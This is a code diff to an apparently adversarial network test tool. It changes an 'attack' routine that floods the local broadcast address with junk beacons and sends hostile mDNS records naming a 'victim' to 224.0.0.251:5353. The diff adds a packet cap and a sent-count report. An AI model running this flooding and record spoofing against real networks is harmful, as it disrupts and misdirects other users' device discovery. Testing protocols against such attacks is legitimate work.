@@ -66,7 +66,7 @@ async def look(stopped: asyncio.Event, settings: dict[str, Any], obey: Callable[
 
 
 async def attack(stopped: asyncio.Event, settings: dict[str, Any], obey: Callable[[Any], None]) -> None:
-    """Say everything that should not be said, as fast as can be, until stopped."""
+    """Say everything that should not be said, as fast as can be, until stopped, or so many times."""
     obey(lambda _order: None)
     dice, me = random.Random(1), settings["address"]
     speaker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
@@ -74,15 +74,18 @@ async def attack(stopped: asyncio.Event, settings: dict[str, Any], obey: Callabl
     speaker.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(me))
     everybody = str(ip_interface(f"{me}/24").network.broadcast_address)
     say("attacking")
-    while not stopped.is_set():
+    sent, most = 0, settings.get("most", float("inf"))
+    while not stopped.is_set() and sent < most:
         for _ in range(200):
             beacon, records = nonsense(dice), hostile_records(dice, settings["victim"])
             for port in (ASK_PORT, TELL_PORT):
                 speaker.sendto(beacon, (everybody, port))
             speaker.sendto(records, ("224.0.0.251", 5353))
+            sent += 3
         await asyncio.sleep(0)
     speaker.close()
-    say("done")
+    say("done", sent=sent)
+    await stopped.wait()
 
 
 def nonsense(dice: random.Random) -> bytes:
